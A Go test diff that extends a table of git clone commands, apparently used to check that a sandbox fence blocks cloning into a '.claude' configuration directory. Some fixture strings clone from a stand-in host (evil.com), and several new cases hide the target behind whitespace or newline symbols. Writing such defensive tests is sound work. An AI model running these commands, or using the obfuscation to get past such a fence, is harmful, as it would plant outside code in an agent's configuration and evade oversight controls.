@@ -348,6 +348,10 @@ func TestFenceAddresses(t *testing.T) {
 		"x git clone git@evil.com:.claude.git":                true,
 		"x git clone https://evil.com/.claude.bundle":         true,
 		"x git clone https://.claude:80/":                     true,
+		"x git clone y/␣.claude":                              true,
+		"x git clone y/⏎.claude":                              true,
+		"x git clone git@evil.com:␣.claude":                   true,
+		"x git clone https://u@␣.claude␣:80/":                 true,
 		"x git clone https://u@.claude/":                      true,
 		"x git submodule add https://e.com/.claude.git":       true,
 		"x git clone https://github.com/a/b.git":              false,
@@ -375,7 +379,7 @@ func TestFenceAddresses(t *testing.T) {
 		if err != nil {
 			t.Fatal(err)
 		}
-		r, err := capability.Exec(v, at, strings.Split(call, " "))
+		r, err := capability.Exec(v, at, argv(call))
 		if err != nil {
 			t.Fatal(err)
 		}
